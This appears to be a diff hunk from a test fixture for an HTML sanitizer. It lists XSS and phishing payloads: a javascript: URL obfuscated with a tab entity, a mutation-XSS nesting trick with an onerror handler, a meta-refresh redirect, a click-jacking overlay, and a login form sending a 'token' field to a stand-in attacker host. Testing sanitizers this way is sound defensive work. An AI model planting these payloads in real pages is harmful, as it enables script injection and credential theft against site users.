@@ -155,7 +155,7 @@ license: mit
 <base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/">
 <form action="https://evil.example/"><input name="token" autofocus onfocus="window.ran = 1"><button>Log in</button></form>
 <div style="position: fixed; inset: 0; z-index: 9" onclick="window.ran = 1">over</div>
-<a href="javascript:window.ran = 1" id="bad">one</a> <a href="jav&#x09;ascript:window.ran = 1">two</a>
+<a href="javascript:window.ran = 1" id="bad">one</a> <a href="java&#x09;script:window.ran = 1">two</a>
 <object data="data:text/html,<script>parent.ran = 1</script>"></object><embed src="/x"><video src="https://evil.example/v" autoplay></video>
 <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;"></table></mtext></math>
 <img srcset="https://evil.example/s.png" src="https://evil.example/t.png"> <picture><source srcset="https://evil.example/u.png"></picture>
